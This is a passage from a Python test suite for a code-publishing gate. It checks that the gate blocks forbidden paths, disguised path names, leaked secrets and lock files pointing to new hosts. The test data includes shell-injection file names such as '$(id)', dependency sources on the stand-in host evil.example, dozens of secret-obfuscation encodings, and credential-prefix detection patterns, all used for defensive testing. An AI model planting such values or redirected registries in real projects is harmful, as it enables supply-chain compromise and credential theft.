"""The publish gate: one table of what it blocks, and properties that hold for every way to write it."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import json
import lzma
import re
import time
import unicodedata
import zlib
from collections.abc import Callable
from urllib.parse import quote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from codeonfly.change import Change, FileChange, GateFinding
from codeonfly.gate import gate, gate_in_time, normalised
from codeonfly.reader import Reader
from codeonfly.settings import Settings
from codeonfly.tree import EXECUTABLE, REGULAR, SUBMODULE, SYMLINK, File, Tree

SECRET = "Zq8-fake/sentinel+value_0123456789"
BASE = Tree("a" * 40, {"README.md": File(REGULAR, b"hello\n"), "src/app.py": File(REGULAR, b"x = 1\n")})
many = settings(max_examples=300)


def change(**files: bytes) -> Change:
    return of({path: File(REGULAR, data) for path, data in files.items()})


def of(files: dict[str, File | None]) -> Change:
    return Change(tuple(FileChange(path, file) for path, file in sorted(files.items())))


def findings(
    made: Change, base: Tree = BASE, given_settings: Settings | None = None, **more: object
) -> tuple[GateFinding, ...]:
    return gate(made, base, given_settings or Settings(), secrets=(SECRET,), **more)  # type: ignore[arg-type]


def blocks(
    made: Change, base: Tree = BASE, given_settings: Settings | None = None, **more: object
) -> set[str]:
    return {one.rule for one in findings(made, base, given_settings, **more) if one.severity == "block"}


def touching(path: str) -> set[str]:
    """The rules against writing and, which is another way to break it, deleting a path."""
    return blocks(of({path: File(REGULAR, b"x\n")})) & blocks(of({path: None}))


# --- what no setting lifts ------------------------------------------------------------------------

FORBIDDEN = {
    ".github/workflows/ci.yml": "workflows",
    ".github/workflows/deep/er/x.yaml": "workflows",
    ".github/workflows": "workflows",
    ".github/actions/setup/action.yml": "workflows",
    ".github/code-on-fly.yml": "own-settings",
    ".github/code-on-fly.yaml": "own-settings",
    "CODEOWNERS": "codeowners",
    ".github/CODEOWNERS": "codeowners",
    "docs/CODEOWNERS": "codeowners",
    ".gitlab/CODEOWNERS": "codeowners",
    ".gitmodules": "submodule",
    "vendor/x/.gitmodules": "submodule",
    ".git/config": "git-internals",
    ".git/hooks/pre-commit": "git-internals",
    "a/.git/hooks/post-checkout": "git-internals",
    ".git": "git-internals",
    "git~1/config": "git-internals",
    "GIT~1/hooks/x": "git-internals",
    "a/git~2": "git-internals",
    "GITMOD~1": "git-internals",
    "GITHUB~1/workflows/x.yml": "git-internals",
    ".github/WO12AF~1/x.yml": "git-internals",
    ".github/WORKF~10/x.yml": "git-internals",
    ".github/ACTION~1/a/action.yml": "git-internals",
    "GI7D29~1/config": "git-internals",
    "CODEOW~1": "git-internals",
    ".github/CODE-O~1.YML": "git-internals",
    ".G\u0130T/config": "git-internals",
}
BAD_PATHS = [
    "/etc/passwd",
    "../x",
    "a/../../x",
    "a/./b",
    "a//b",
    "a/",
    ".",
    "..",
    "",
    "a\\b",
    "..\\x",
    "C:\\x",
    "C:x",
    "a:b",
    "a\0b",
    "a\nb",
    "a\x1bb",
    "a\x7fb",
    "a\x80b",
    "a\u200bb",
    "a\u202eb",
    "a\ufeffb",
    "a\u00adb",
    "a\ufe0fb",
    "a\U000e0041b",
    "\ud800",
    "a\udcffb",
    "\ue000",
    "\uffff",
    "con",
    "CON",
    "nul.txt",
    "aux.py",
    "prn",
    "COM1",
    "com¹.log",
    "lpt9.md",
    "a/nul/b",
    "conin$",
    "CONOUT$",
    "com0",
    "con .txt",
    "clock$",
    "a\u2028b",
    "name.",
    "name ",
    "dir./x",
    "dir /x",
    "x/...",
    "a" * 5000,
    "é" * 2100,
    "a" * 256,
    "d/" + "é" * 128,
    "$(id)",
    "a/${{ github.token }}",
    "`id`.py",
    "-rf",
    "a/--help",
    "a|b",
    "a>b",
    'a"b',
    "a?b",
    "a*b",
]


@pytest.mark.parametrize(("path", "rule"), FORBIDDEN.items(), ids=FORBIDDEN)
def test_what_is_never_published(path: str, rule: str) -> None:
    assert rule in touching(path)


@pytest.mark.parametrize("path", BAD_PATHS, ids=[ascii(path[:30]) for path in BAD_PATHS])
def test_names_that_no_repository_needs(path: str) -> None:
    assert "path" in touching(path)


@pytest.mark.parametrize(
    "path",
    [
        "src/new.py",
        ".github/ISSUE_TEMPLATE/bug.yml",
        ".gitignore",
        "docs/workflows/ci.yml",
        "github/workflows/ci.yml",
        "src/.github.py",
        "console.py",
        "auxiliary.py",
        "nullable.ts",
        "com.py",
        "lptest.py",
        "src/con_man.py",
        "a b.txt",
        "été/日本語.md",
        "x~1.txt",
        "legit~1",
        "widget~1/x",
        "codeowners.py",
        "tests/CODEOWNERS.md",
        ".github/code-on-fly.md",
        "a.b..c",
        "..a",
        "...b",
        "app/[id]/$page.(x)+@{y}&z,w'v;u!~%#^=.tsx",
        "a/.gitkeep",
        "_.git_",
    ],
)
def test_ordinary_names_pass(path: str) -> None:
    assert findings(of({path: File(REGULAR, b"x\n")})) == ()


def test_a_name_for_shells_that_the_base_has_may_stay() -> None:
    base = Tree("a" * 40, {"why?.md": File(REGULAR, b"x")})
    assert findings(change(**{"why?.md": b"y"}), base) == ()


@pytest.mark.parametrize("mode", [SYMLINK, SUBMODULE, "100664", "040000", "060000", "020000", "", "100600"])
def test_only_regular_files_are_published(mode: str) -> None:
    assert "mode" in blocks(of({"x": File(mode, b"a" * 40)}))


@pytest.mark.parametrize("mode", [SYMLINK, SUBMODULE])
@pytest.mark.parametrize("after", [None, File(REGULAR, b"x")], ids=["deleted", "replaced"])
def test_links_and_submodules_of_the_base_are_not_touched(mode: str, after: File | None) -> None:
    base = Tree("a" * 40, {"link": File(mode, b"b" * 40)})
    assert "mode" in blocks(of({"link": after}), base)


@pytest.mark.parametrize("mode", [SYMLINK, SUBMODULE])
def test_nothing_is_written_through_a_link_or_into_a_submodule(mode: str) -> None:
    base = Tree("a" * 40, {"link": File(mode, b"b" * 40)})
    assert "collision" in blocks(of({"link/x": File(REGULAR, b"x")}), base)


@pytest.mark.parametrize("mode", [REGULAR, EXECUTABLE])
def test_both_ordinary_modes_pass(mode: str) -> None:
    assert findings(of({"bin/run": File(mode, b"x\n")})) == ()


# --- every way to write a forbidden path ----------------------------------------------------------

Disguise = Callable[[str], str]
DISGUISES: dict[str, Disguise] = {
    "upper case": str.upper,
    "title case": str.title,
    "alternating case": lambda path: "".join(c.upper() if n % 2 else c for n, c in enumerate(path)),
    "full width": lambda path: "".join(
        chr(ord(c) + 0xFEE0) if "!" <= c <= "~" and c != "/" else c for c in path
    ),
    "full-width slash": lambda path: path.replace("/", "\uff0f"),
    "backslash": lambda path: path.replace("/", "\\"),
    "long s and Kelvin": lambda path: path.replace("s", "\u017f").replace("k", "\u212a"),
    "dots at the end": lambda path: path.replace("/", "./"),
    "spaces at the end": lambda path: path.replace("/", " /"),
    "here": lambda path: f"./{path}",
    "there and back": lambda path: f"x/../{path}",
    "twice": lambda path: path.replace("/", "//"),
    "from the root": lambda path: f"/{path}",
    "dotless i": lambda path: path.replace("i", "\u0131"),
    "zero width": "\u200d".join,
    "a mark at the front": lambda path: f"\ufeff{path}",
    "soft hyphen": lambda path: path.replace("g", "g\u00ad"),
    "tag characters": lambda path: path + "\U000e0041",
    "variation selector": lambda path: path.replace("t", "t\ufe00"),
    "stream": lambda path: f"{path}::$DATA",
    "decomposed": lambda path: unicodedata.normalize("NFKD", path.upper()),
    "one dot leader": lambda path: path.replace(".", "\u2024"),
    "ideographic space": lambda path: path.replace("/", "\u3000/"),
    "invisible filler": lambda path: path.replace("i", "i\u3164"),
    "combining joiner": lambda path: path.replace("i", "i\u034f"),
}
disguised = st.builds(
    lambda path, names: (path, names),
    st.sampled_from(sorted(FORBIDDEN)),
    st.lists(st.sampled_from(sorted(DISGUISES)), max_size=3),
)


@many
@given(disguised)
@example((".git/config", ["combining joiner"]))
@example((".github/workflows/ci.yml", ["long s and Kelvin", "full width"]))
def test_no_disguise_of_a_forbidden_path_passes(case: tuple[str, list[str]]) -> None:
    path, names = case
    for name in names:
        path = DISGUISES[name](path)
    assert touching(path), ascii(path)


@many
@given(st.sampled_from(sorted(FORBIDDEN)), st.lists(st.booleans(), min_size=40, max_size=40))
def test_no_mix_of_cases_of_a_forbidden_path_passes(path: str, upper: list[bool]) -> None:
    mixed = "".join(char.upper() if up else char for char, up in zip(path, upper, strict=False))
    assert touching(mixed)


@many
@given(st.text(max_size=30))
def test_normalising_twice_changes_nothing_more(path: str) -> None:
    once = normalised(path)
    assert normalised(once) == once


# --- names that are one on some systems -----------------------------------------------------------


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("a.py", "A.py"),
        ("caf\u00e9", "cafe\u0301"),
        ("stra\u00dfe", "STRASSE"),
        ("\ufb01le", "file"),
        ("src/x", "SRC/x"),
        ("\u2126", "\u03a9"),
    ],
)
def test_two_names_for_one_file_collide(one: str, other: str) -> None:
    file = File(REGULAR, b"x")
    assert "collision" in blocks(of({one: file, other: file}))
    assert "collision" in blocks(of({other: file}), Tree("a" * 40, {one: file}))


def test_two_names_for_one_folder_collide() -> None:
    tree = Tree("a" * 40, {path: File(REGULAR, b"x") for path in ("src/a", "one/x", "ONE/y")})
    assert "collision" in blocks(change(**{"SRC/b": b"x"}), tree)
    assert "collision" in blocks(change(**{"n/caf\u00e9/1": b"x", "n/cafe\u0301/2": b"x"}))
    assert findings(change(**{"one/2": b"x", "ONE/3": b"x", "src/b": b"x"}), tree) == ()
    renamed = Change((*of({"Src/a": File(REGULAR, b"x")}).files, *of({"src/a": None}).files))
    assert findings(renamed, tree) == ()


def test_names_that_already_collide_on_the_base_are_not_held_against_the_change() -> None:
    file = File(REGULAR, b"x")
    base = Tree("a" * 40, {"a": file, "A": file})
    assert findings(change(b=b"x"), base) == ()


@pytest.mark.parametrize(
    ("made", "base"),
    [
        ({"src": b"x"}, {"src/app.py": b"y"}),
        ({"src/app.py/deep": b"x"}, {"src/app.py": b"y"}),
        ({"a": b"x", "a/b": b"y"}, {}),
        ({"A": b"x", "a/b": b"y"}, {}),
    ],
    ids=["a folder becomes a file", "a file becomes a folder", "both new", "by case"],
)
def test_a_file_and_a_folder_of_one_name_collide(made: dict[str, bytes], base: dict[str, bytes]) -> None:
    tree = Tree("a" * 40, {path: File(REGULAR, data) for path, data in base.items()})
    assert "collision" in blocks(change(**made), tree)


def test_a_rename_by_case_and_a_file_for_a_folder_pass() -> None:
    file = File(REGULAR, b"x")
    base = Tree("a" * 40, {"a.py": file, "d/x": file})
    assert findings(of({"a.py": None, "A.py": file}), base) == ()
    assert findings(of({"d/x": None, "d": file}), base) == ()


# --- how much -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("files", "rule"),
    [
        ({"x": (1 << 20) + 1}, "file-too-large"),
        ({f"f{n}": 1 << 20 for n in range(11)}, "change-too-large"),
        ({f"f{n}": 1 for n in range(401)}, "too-many-files"),
    ],
)
def test_the_limits_by_default(files: dict[str, int], rule: str) -> None:
    assert blocks(change(**{path: b"x" * size for path, size in files.items()})) == {rule}


def test_at_the_limits_it_passes() -> None:
    assert blocks(change(**{f"f{n}": b"x" * (1 << 20) for n in range(10)})) == set()
    assert blocks(change(**{f"f{n}": b"x" for n in range(400)})) == set()


def test_deletions_count_as_files_but_weigh_nothing() -> None:
    base = Tree("a" * 40, {f"f{n}": File(REGULAR, b"x" * (2 << 20)) for n in range(3)})
    small = Settings(max_files=2)
    gone = of(dict.fromkeys(base))
    assert blocks(gone, base) == set()
    assert blocks(gone, base, small) == {"too-many-files"}


# --- secrets --------------------------------------------------------------------------------------

raw = SECRET.encode()
WRITTEN: dict[str, bytes] = {
    "raw": raw,
    "in other case": raw.upper(),
    "reversed": raw[::-1],
    "base64": base64.b64encode(raw),
    "base64 after one byte": base64.b64encode(b"x" + raw),
    "base64 after two bytes": base64.b64encode(b"xy" + raw),
    "base64 amid other text": base64.b64encode(b"token=" + raw + b"&more=1"),
    "base64 for addresses": base64.urlsafe_b64encode(b"k=" + raw),
    "base64 in lines": base64.encodebytes(b"-" * 70 + raw),
    "base64 twice": base64.b64encode(base64.b64encode(raw)),
    "base32": base64.b32encode(raw),
    "hex": raw.hex().encode(),
    "hex in capitals": raw.hex().upper().encode(),
    "hex with spaces": raw.hex(" ").encode(),
    "hex with colons": raw.hex(":").encode(),
    "bytes as escapes": "".join(f"\\x{byte:02x}" for byte in raw).encode(),
    "hex of base64": base64.b64encode(raw).hex().encode(),
    "in an address": quote(SECRET, safe="").encode(),
    "every byte in an address": "".join(f"%{byte:02X}" for byte in raw).encode(),
    "UTF-16": SECRET.encode("utf-16-le"),
    "UTF-16, the other way": SECRET.encode("utf-16-be"),
    "over lines": b"\n".join(raw[n : n + 5] for n in range(0, len(raw), 5)),
    "as pieces of Python": b" + ".join(b'"' + raw[n : n + 4] + b'"' for n in range(0, len(raw), 4)),
    "as pieces of JavaScript": b"['"
    + b"','".join(raw[n : n + 4] for n in range(0, len(raw), 4))
    + b"'].join('')",
    "as continued lines": b"\\\n".join(raw[n : n + 8] for n in range(0, len(raw), 8)),
    "with dots between": b".".join(raw[n : n + 1] for n in range(len(raw))),
    "as numbers": ", ".join(str(byte) for byte in raw).encode(),
    "as numbers in octal": "".join(f"\\{byte:03o}" for byte in raw).encode(),
    "as bits": " ".join(f"{byte:08b}" for byte in raw).encode(),
    "as code points": "".join(f"\\u{{{byte:x}}}" for byte in raw).encode(),
    "in full width": "".join(chr(byte + 0xFEE0) for byte in raw).encode(),
    "as tags": "".join(chr(byte + 0xE0000) for byte in raw).encode(),
    "as variation selectors": "😀".encode() + "".join(chr(byte + 0xE0100) for byte in raw).encode(),
    "as variation selectors from the sixteenth on": "".join(chr(byte + 0xE00F0) for byte in raw).encode(),
    "turned by thirteen": codecs.encode(SECRET, "rot13").encode(),
    "hex, reversed": raw[::-1].hex().encode(),
    "base64 of it reversed": base64.b64encode(raw[::-1]),
    "base64 of hex": base64.b64encode(raw.hex().encode()),
    "base64 of UTF-16": base64.b64encode(SECRET.encode("utf-16-le")),
    "hex of UTF-16": SECRET.encode("utf-16-le").hex().encode(),
    "as numbers in hex": ", ".join(f"0x{byte:02x}" for byte in raw).encode(),
    "base32 of another alphabet": base64.b32hexencode(raw),
    "base85": base64.b85encode(b"x" + raw + b"y"),
    "ascii85": base64.a85encode(raw, adobe=True),
    "uuencode": codecs.encode(b"-" * 30 + raw + b"-" * 40, "uu"),
    "one number": str(int.from_bytes(raw, "big")).encode(),
    "twice in an address": "".join(f"%25{byte:02X}" for byte in raw).encode(),
    "as calls": " + ".join(f"chr({byte})" for byte in raw).encode(),
    "gzip": gzip.compress(raw),
    "gzip twice": gzip.compress(gzip.compress(raw)),
    "zlib": zlib.compress(raw),
    "bzip2": bz2.compress(raw),
    "xz": lzma.compress(raw),
    "base64 of gzip": b"payload = '" + base64.b64encode(gzip.compress(raw)) + b"'",
    "base64 of gzip, reversed": base64.b64encode(gzip.compress(raw))[::-1],
    "base64 of gzip in strings": b" + ".join(
        b"'" + part + b"'" for part in re.findall(b".{1,9}", base64.b64encode(gzip.compress(raw)))
    ),
    "base64 of zlib": base64.b64encode(zlib.compress(raw)),
    "base64 of a stream without a header": base64.b64encode(zlib.compress(raw)[2:-4]),
    "base64 three times": base64.b64encode(base64.b64encode(base64.b64encode(raw))),
    "hex of gzip": gzip.compress(raw).hex().encode(),
    "numbers of gzip": ", ".join(map(str, gzip.compress(raw))).encode(),
    "base85 of zlib": b'"' + base64.b85encode(zlib.compress(raw)) + b'"',
    "ascii85 of zlib": base64.a85encode(zlib.compress(raw), adobe=True),
    "in variables": "".join(
        f'{name} = "{part}"\n' for name, part in zip("abcde", re.findall(".{1,7}", SECRET), strict=True)
    ).encode(),
    "in an object": json.dumps({str(at): letter for at, letter in enumerate(SECRET)}).encode(),
    "in a table": "\n".join(f"| {at} | {letter} | x |" for at, letter in enumerate(SECRET)).encode(),
    "as first letters": "\n".join(f"{letter} word" for letter in SECRET).encode(),
    "as code points by name": " ".join(f"U+{byte:04X}" for byte in raw).encode(),
    "as long escapes": "".join(f"\\U{byte:08x}" for byte in raw).encode(),
    "as escapes of style sheets": "".join(f"\\{byte:06x}" for byte in raw).encode(),
    "as marked octal numbers": ", ".join(f"0o{byte:o}" for byte in raw).encode(),
    "a hexadecimal dump after a letter": "\n".join(
        f"{at:08x}  {raw[at : at + 16].hex(' ')}" for at in range(0, len(raw), 16)
    ).encode(),
    "base32 of gzip": base64.b32encode(gzip.compress(raw)),
    "lzma": lzma.compress(raw, format=lzma.FORMAT_ALONE),
    "base64 of lzma": base64.b64encode(lzma.compress(raw, format=lzma.FORMAT_ALONE)),
    "as last letters": "\n".join(f"word{letter}" for letter in SECRET).encode(),
    "with letters between": "x".join(SECRET).encode(),
    "with two letters between": "qz".join(SECRET).encode(),
}


@pytest.mark.parametrize("written", WRITTEN.values(), ids=WRITTEN)
def test_a_secret_is_found_however_it_is_written(written: bytes) -> None:
    assert "secret" in blocks(change(**{"config.txt": b"before\n" + written + b"\nafter\n"}))


@many
@given(st.binary(max_size=40), st.binary(max_size=40), st.sampled_from(["raw", "base64", "hex", "quoted"]))
def test_a_secret_is_found_wherever_it_stands(before: bytes, after: bytes, form: str) -> None:
    whole = before + raw + after
    written = {
        "raw": whole,
        "base64": base64.b64encode(whole),
        "hex": whole.hex().encode(),
        "quoted": quote(whole).encode(),
    }[form]
    assert "secret" in blocks(change(x=written))


@many
@given(
    st.lists(st.integers(1, 9), min_size=4, max_size=12),
    st.sampled_from(["\n", '" + "', "', '", " ", "\\\n", '"\n  "']),
)
def test_a_secret_is_found_however_it_is_cut(sizes: list[int], glue: str) -> None:
    pieces, rest = [], SECRET
    for size in sizes:
        pieces.append(rest[:size])
        rest = rest[size:]
    text = glue.join([*pieces, rest])
    assert "secret" in blocks(change(**{"x.py": f'key = "{text}"\n'.encode()}))


def test_a_secret_over_two_files_or_in_a_name_is_found() -> None:
    assert "secret" in blocks(change(**{f"notes/{SECRET.replace('/', '')}": b"x", "y": raw}))
    assert "secret" in gate_rules(of({f"d/{SECRET}": File(REGULAR, b"x")}))
    assert "secret" in gate_rules(of({f"d/{SECRET}": None}))


def test_a_secret_in_halves_is_found() -> None:
    token = "ghs_16C7e42F292c6912E7710c838347Ae178B4a"
    for halves in (
        {"a.txt": f"first {token[:20]}, then {token[20:]}".encode()},
        {"a.txt": base64.b64encode(token[:20].encode()) + b" and " + base64.b64encode(token[20:].encode())},
        {"a.txt": token[:9].encode(), "b.txt": token[9:18].encode(), "c.txt": token[18:].encode()},
    ):
        made = change(**halves)
        assert {one.rule for one in gate(made, BASE, Settings(), secrets=(token,))} == {"secret"}


@pytest.mark.parametrize(
    "text",
    [
        "tokens begin with ghs_ or github_pat_, keys with sk-proj- and 0123456789abcdef",
        "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.e30.c2lnbmF0dXJl",
        "sk-proj-",
    ],
)
def test_what_all_secrets_of_a_kind_have_is_no_secret(text: str) -> None:
    secrets = (
        "ghs_1234_eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJnaXRodWIifQ.Xq82mZk19sLw03Vb",
        "github_pat_0123456789abcdef_Qm4xT9",
        "sk-proj-0123456789abcdefZ",
    )
    assert gate(change(**{"README.md": text.encode()}), BASE, Settings(), secrets=secrets) == ()


@pytest.mark.parametrize("unit", [b"H4sI", b"x\x9c", b'"\\', b"1 ", b"PK\3\4" + b"\0" * 26, b"7", b"a,'b' "])
def test_looking_for_secrets_takes_seconds_however_a_file_looks(unit: bytes) -> None:
    begun = time.process_time()
    assert blocks(change(x=unit * (100_000 // len(unit)))) == set()
    assert time.process_time() - begun < 5


def gate_rules(made: Change) -> set[str]:
    return {one.rule for one in findings(made)}


TOKENS = [
    "ghp_" + "a1" * 18,
    "ghs_" + "B2" * 20,
    "github_pat_" + "c3" * 35,
    "sk-" + "d4" * 20,
    "sk-proj-" + "e5_" * 14,
    "sk-ant-" + "f6-" * 14,
    "e2b_" + "0a" * 20,
    "AKIA" + "Q7" * 8,
    "xoxb-" + "12-" * 10,
    "-----BEGIN RSA PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----",
    "-----BEGIN OPENSSH PRIVATE KEY-----",
    "glpat-" + "x9" * 10,
    "AIza" + "Sy0" * 11 + "ab",
    "npm_" + "z8" * 18,
    "-----BEGIN ENCRYPTED PRIVATE KEY-----",
    "-----BEGIN PGP PRIVATE KEY BLOCK-----",
    "ASIA" + "Q7" * 8,
    "sk_live_" + "x9" * 12,
    "hf_" + "aB" * 17,
    "SG." + "aB" * 11 + "." + "c_" * 21 + "d",
]


@pytest.mark.parametrize("token", TOKENS, ids=[token[:14] for token in TOKENS])
def test_what_looks_like_a_key_is_not_published(token: str) -> None:
    assert "key" in blocks(change(**{"config.py": f'KEY = "{token}"\n'.encode()}))


def test_a_key_that_the_base_has_already_is_not_held_against_the_change() -> None:
    fixture = f"KEY = '{TOKENS[0]}'\n".encode()
    base = Tree("a" * 40, {"tests/fixture.py": File(REGULAR, fixture)})
    assert blocks(change(**{"tests/fixture.py": fixture + b"more = 1\n"}), base) == set()
    other = fixture + f"OTHER = '{TOKENS[1]}'\n".encode()
    assert blocks(change(**{"tests/fixture.py": other}), base) == {"key"}


@pytest.mark.parametrize(
    "text",
    [
        "sk-learn and sk-image",
        "AKIA is a prefix",
        "xoxb-",
        "ghp_short",
        "-----BEGIN CERTIFICATE-----",
        "risk-" + "a" * 10,
    ],
)
def test_words_that_merely_begin_like_a_key_pass(text: str) -> None:
    assert blocks(change(**{"README.md": text.encode()})) == set()


@pytest.mark.parametrize("short", ["", "1234567", "x"])
def test_a_secret_that_is_too_short_to_be_one_blocks_nothing(short: str) -> None:
    made = change(a=b"1234567 x and more")
    assert gate(made, BASE, Settings(), secrets=(short,)) == ()


# --- lock files -----------------------------------------------------------------------------------

LOCKED = {
    "package-lock.json": '{"resolved": "https://evil.example/x.tgz"}',
    "web/yarn.lock": 'resolved "https://evil.example/x.tgz#abc"',
    "pnpm-lock.yaml": "tarball: https://evil.example/x.tgz",
    ".npmrc": "registry=https://evil.example/",
    "poetry.lock": 'url = "https://evil.example/simple"',
    "uv.lock": 'source = { registry = "https://evil.example/simple" }',
    "Cargo.lock": 'source = "registry+https://evil.example/index"',
    "requirements.lock": "--index-url https://evil.example/simple",
    "requirements.txt": "pkg @ https://evil.example/pkg.whl",
    "requirements/dev.txt": "--extra-index-url=https://evil.example/simple",
    "pip.conf": "index-url = https://evil.example/simple",
    ".cargo/config.toml": 'registry = "https://evil.example/index"',
    "pylock.toml": 'url = "https://evil.example/a.whl"',
    "bun.lock": '"https://evil.example/x.tgz"',
    ".terraform.lock.hcl": 'provider "https://evil.example/x" {}',
    ".bazelrc": "common --registry=https://evil.example/x",
    ".m2/settings.xml": "<url>https://evil.example/m2</url>",
    "git in a lock": "git+ssh://git@evil.example/x.git",
}


@pytest.mark.parametrize(
    ("path", "text"),
    [(p, t) for p, t in LOCKED.items() if "git in" not in p],
    ids=[p for p in LOCKED if "git in" not in p],
)
def test_a_lock_file_points_to_no_new_host(path: str, text: str) -> None:
    assert blocks(change(**{path: text.encode()})) == {"foreign-host"}
    base = Tree("a" * 40, {path: File(REGULAR, text.encode())})
    assert blocks(change(**{path: text.encode() + b"\n"}), base) == set()
    assert blocks(change(**{path: text.encode()}), allowed_hosts=("evil.example",)) == set()


@pytest.mark.parametrize(
    "address",
    [
        "HTTPS://EVIL.example/x",
        "https://user:pass@evil.example/x",
        "git+ssh://git@evil.example/x.git",
        "git://evil.example/x",
        "https://ok.example@evil.example/x",
        "https://evil.example:8443/x",
        "//evil.example/x.tgz",
        "https:\\/\\/evil.example\\/x",
        "git@evil.example:x/y.git",
        "ftp://evil.example/x",
        "https://ok.example.evil.example/x",
        "https://[2001:db8::1]/x",
        "https:/evil.example/x",
        "https:evil.example/x",
        "https:\\\\\\\\evil.example/x",
        "https:/\\t/evil.example/x",
        "https:\\u002f\\u002fevil.example/x",
        "https://evil.example#@ok.example/x",
        "https://evil.example?@ok.example/x",
        "https://\u0435vil.example/x",
        "https://%65vil.example/x",
        "https://${HOST}/x",
        "deploy@evil.example:x/y.git",
        "x@npm:1::__archiveUrl=https%3A%2F%2Fevil.example%2Fx.tgz",
        "github:evil/x#abc",
        "evil/x#abc",
        "https://ok.example:0/x",
        f"https://ok.example:{'1' * 5000}/x",
    ],
)
def test_a_host_is_found_however_its_address_is_written(address: str) -> None:
    made = change(**{"package-lock.json": f'{{"resolved": "{address}"}}'.encode()})
    assert blocks(made, allowed_hosts=("ok.example",)) == {"foreign-host"}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("uv.lock", 'registry = "https:\\u002f\\u002Fevil.example"'),
        ("pnpm-lock.yaml", 'tarball: "https:\\x2f\\x2fevil.example/x"'),
        ("bun.lock", '["https:\\u002f\\u002fevil.example/x"]'),
        ("yarn.lock", 'resolved "\\U00000068ttps://evil.example/x"'),
        ("gems.locked", "remote: https://evil.example/"),
        ("mix.lock", '"https://evil.example/x.git"'),
        ("packages.lock.json", '"https://evil.example"'),
        ("bunfig.toml", 'registry = "https://evil.example"'),
        ("yarn.lock", 'resolution: "x@npm:1::__archiveUrl=https%3a%2f%2fevil.example"'),
        ("requirements.txt", "--index-url https://\\\nevil.example\n"),
        ("requirements.txt", "# c \\\n-i https://evil.example\n"),
    ],
)
def test_a_host_is_found_in_every_lock_file_behind_its_escapes(path: str, text: str) -> None:
    assert blocks(change(**{path: text.encode()})) == {"foreign-host"}


ABOUT = {"funding": {"url": "https://donate.example/x"}, "deprecated": "see https://docs.example/why"}
ENTRY = {"version": "1.0.0", **ABOUT, "license": "https://words.example"}
HIDDEN = {"version": "1.0.0", "resolved": "https://evil.example/x.tgz"}


CARGOS_OWN = "registry+https://github.com/rust-lang/some.name-index"
PNPM = """packages:

  x@1.0.0:
    resolution: {integrity: sha512-x}
    deprecated: see https://docs.example/why

  y@1.0.0:
    deprecated: |-
      see
      https://docs.example/why
    engines: {node: '>=18'}
"""


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("pnpm-lock.yaml", PNPM),
        ("package-lock.json", json.dumps({"packages": {"": {}, "node_modules/x": ENTRY}})),
        (
            "web/package-lock.json",
            json.dumps({"dependencies": {"x": {**ENTRY, "dependencies": {"y": ENTRY}}}}),
        ),
        ("npm-shrinkwrap.json", json.dumps({"packages": {"node_modules/x": ENTRY}})),
        (
            "composer.lock",
            json.dumps({"packages": [{"name": "x", "support": {"source": "https://a.example"}}]}),
        ),
        ("Cargo.lock", f'[[package]]\nname = "itoa"\nsource = "{CARGOS_OWN}"\n'),
        ("requirements.txt", "x==1  # see https://docs.example/why\n"),
        ("uv.lock", "# from https://docs.example/why\nversion = 1\n"),
    ],
)
def test_what_a_lock_file_only_tells_points_nowhere(path: str, text: str) -> None:
    assert blocks(change(**{path: text.encode()})) == set()


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package-lock.json", json.dumps({"dependencies": {"funding": HIDDEN}})),
        ("package-lock.json", json.dumps({"dependencies": {"x": {"dependencies": {"deprecated": HIDDEN}}}})),
        (
            "package-lock.json",
            json.dumps({"packages": {"": {"dependencies": {"funding": "https://evil.example/x.tgz"}}}}),
        ),
        ("package-lock.json", json.dumps({"packages": {"license": HIDDEN}})),
        ("package-lock.json", json.dumps({"note": " # ", "packages": {"node_modules/x": HIDDEN}})),
        ("package-lock.json", "{not json, 'https://evil.example/x.tgz'}"),
        ("Cargo.lock", f'source = "{CARGOS_OWN}@evil.example/x"'),
        ("bun.lock", '{"a": " # ", "b": "https://evil.example/x.tgz"}'),
        ("uv.lock", 'source = { note = " # ", registry = "https://evil.example/simple" }'),
        ("pnpm-lock.yaml", "importers:\n  .:\n    deprecated: https://evil.example/x.tgz\n"),
        ("pnpm-lock.yaml", "packages:\n  x:\n    deprecated: no\n    tarball: https://evil.example/x.tgz\n"),
    ],
)
def test_an_address_does_not_hide_under_a_harmless_name(path: str, text: str) -> None:
    assert blocks(change(**{path: text.encode()})) == {"foreign-host"}


@pytest.mark.parametrize(
    ("address", "blocked"),
    [
        ("https://ok.example:443/x", False),
        ("https://ok.example:8443/x", True),
        ("git+ssh://git@ok.example:22/x.git", False),
        ("https://name:word@ok.example/x", True),
        ("https://${NAME}:${WORD}@ok.example/x", False),
    ],
)
def test_a_known_host_is_known_on_its_usual_ports_and_without_a_password(address: str, blocked: bool) -> None:
    made = change(**{".npmrc": f"registry={address}\n".encode()})
    told = findings(made, allowed_hosts=("ok.example",))
    assert [one.rule for one in told if one.severity == "block"] == ["foreign-host"] * blocked
    assert "word@" not in str(told)


WRAPPERS = {
    "gradle/wrapper/gradle-wrapper.properties": "distributionUrl=https\\://{}/gradle.zip\n",
    ".mvn/wrapper/maven-wrapper.properties": "a=b\ndistributionUrl=https\\:\\\n  //{}/maven.zip\n",
}


@pytest.mark.parametrize(("path", "text"), WRAPPERS.items(), ids=["gradle", "maven"])
def test_a_build_tool_comes_from_no_new_host(path: str, text: str) -> None:
    base = Tree("a" * 40, {path: File(REGULAR, text.format("tools.example").encode())})
    assert findings(change(**{path: text.format("tools.example").encode() + b"#"}), base) == ()
    moved = change(**{path: text.format("evil.example").encode()})
    assert blocks(moved, base) == {"foreign-host"}
    assert [(one.rule, one.severity) for one in findings(moved)] == [("foreign-host", "review")]


# --- manifests ------------------------------------------------------------------------------------

SOURCES = [
    ("package.json", '{"dependencies": {"x": "git+https://evil.example/x.git"}}'),
    ("package.json", '{"devDependencies": {"x": "evil/x"}}'),
    ("package.json", '{"overrides": {"a": {"b": "github:evil/x"}}}'),
    ("package.json", '{"resolutions": {"x": "git@evil.example:x/y.git"}}'),
    ("package.json", '{"pnpm": {"overrides": {"x": "http://evil.example/x.tgz"}}}'),
